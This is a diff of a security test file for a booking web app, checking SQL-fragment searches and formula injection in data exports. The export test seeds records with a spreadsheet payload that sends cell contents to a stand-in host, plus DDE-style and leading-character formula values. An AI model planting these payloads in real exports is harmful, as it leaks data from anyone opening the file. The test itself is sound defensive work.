@@ -1,11 +1,12 @@
 import { afterEach, beforeAll, expect, test, vi } from 'vitest';
-import { contactMessages, outbox, settings, subscribers, transferRequests, tripRequests } from '#db/schema.ts';
+import { bookings, contactMessages, outbox, settings, subscribers, transferRequests } from '#db/schema.ts';
 import { deliverDue } from '#mail/delivery.ts';
 import { anAdmin } from './test/admin.ts';
 import { aTrip, aTripType, db } from './test/builders.ts';
 import { bindings, ORIGIN, postJson, send } from './test/client.ts';
 import { signIn } from './test/sign-in.ts';
 import { aTransferRequest, aTransferTable, SUMMER_DAY } from './test/transfer-table.ts';
+import { aTripRequest } from './test/trip-requests.ts';
 
 const admin = await anAdmin();
 
@@ -45,7 +46,7 @@ const ADMIN_LISTS = [
 ];
 
 test('a search for pieces of SQL finds the words, or nothing', async () => {
-  const before = await db.select().from(tripRequests);
+  const before = await db.select().from(bookings);
   for (const [n, text] of SQL.entries()) {
     for (const path of LISTS) {
       const address = { 'CF-Connecting-IP': `203.0.113.${n}` };
@@ -65,30 +66,18 @@ test('a search for pieces of SQL finds the words, or nothing', async () => {
     }
   }
   expect((await send('/api/trips/1')).status).toBe(200);
-  expect(await db.select().from(tripRequests)).toEqual(before);
+  expect(await db.select().from(bookings)).toEqual(before);
 });
 
 const FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1,"x")';
 test('no export contains a formula from user input', async () => {
-  const agreed = { language: 'de', privacyEdition: '1', privacyAcceptedAt: '2026-01-01T00:00:00.000Z' } as const;
   await db
     .insert(contactMessages)
     .values({ name: FORMULA, email: '+cmd@example.com', message: `-2+3${FORMULA}`, language: 'en', source: '@SUM(1)', digest: 'd' });
   await db
     .insert(subscribers)
     .values({ email: '=cmd|x@example.com', language: 'en', consentSource: '\t=1+1', requestedAt: '2026-01-01T00:00:00.000Z' });
-  await db.insert(tripRequests).values({
-    id: 'r',
-    reference: 'REF00001',
-    manageTokenHash: 'h',
-    tripId: 1,
-    localDate: '2027-06-12',
-    adults: 2,
-    digest: 'd',
-    contactName: FORMULA,
-    message: ' =1+1',
-    ...agreed,
-  });
+  await aTripRequest(1, { contactName: FORMULA, notes: ' =1+1' });
   await aTransferRequest({ contact: { name: '=SUM(1+1)', email: 'ada@example.com' }, signName: '+1', note: FORMULA });
   const from = `${Number(SUMMER_DAY.slice(0, 4))}-06-01`;
   for (const path of [
